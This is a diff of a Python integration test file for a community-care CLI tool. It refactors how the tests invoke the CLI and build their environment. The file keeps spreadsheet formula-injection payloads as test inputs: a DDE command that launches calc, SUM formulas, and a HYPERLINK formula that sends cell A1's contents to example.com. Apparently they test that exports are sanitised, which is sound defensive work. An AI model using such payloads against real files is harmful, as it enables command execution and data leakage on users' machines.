@@ -7,13 +7,19 @@ import io
 from pathlib import Path
 
 import pytest
-from typer.testing import CliRunner
 
-from proactive.cli.main import app
 from proactive.field.coverage import CommunityGap, write_gaps
-from tests.factories import household, senior, site, worker, write_csv, write_extract
+from tests.factories import (
+    cli_environment,
+    household,
+    senior,
+    site,
+    worker,
+    write_csv,
+    write_extract,
+)
+from tests.integration.cli.test_tasks import invoke
 
-runner = CliRunner()
 NAME = "=cmd|' /C calc'!A0"
 ADDRESS = "+SUM(1,2)"
 SITE_NAME = '=HYPERLINK("http://example.com/?"&A1,"查看")'
@@ -22,11 +28,7 @@ BAD_SITE = "@SUM(1)"
 
 @pytest.fixture
 def env(tmp_path: Path) -> dict[str, str]:
-    environment = {
-        "PROACTIVE_DATABASE_URL": f"sqlite:///{tmp_path}/cli.db",
-        "PROACTIVE_KEY_DIR": str(tmp_path / "keys"),
-        "PROACTIVE_CERTIFICATE_DIR": str(tmp_path / "pdf"),
-    }
+    environment = cli_environment(tmp_path)
     homes = [
         household(
             "HH1", address=ADDRESS, lat="30.1905", lon="120.2005", division_code="330108002001"
@@ -39,21 +41,10 @@ def env(tmp_path: Path) -> dict[str, str]:
     broken = {**site(BAD_SITE, "community", "330108002001", 30.19, 120.2), "daily_capacity": "x"}
     write_csv(directory / "sites.csv", [community, broken])
     write_csv(directory / "social_workers.csv", [worker("W1", "C1")])
-    reports = ["--report-dir", str(tmp_path / "reports")]
-    for command in (
-        ["ingest", str(directory), *reports],
-        ["keys", "init"],
-        ["run", "--date", "2026-11-25"],
-    ):
-        result = runner.invoke(app, command, env=environment)
-        assert result.exit_code == 0, result.output
+    invoke(environment, "ingest", str(directory), "--report-dir", str(tmp_path / "reports"))
+    invoke(environment, "keys", "init")
+    invoke(environment, "run", "--date", "2026-11-25")
     return environment
-
-
-def invoke(env: dict[str, str], *args: str) -> str:
-    result = runner.invoke(app, list(args), env=env)
-    assert result.exit_code == 0, result.output
-    return result.output
 
 
 def rows(text: str) -> list[dict[str, str]]:
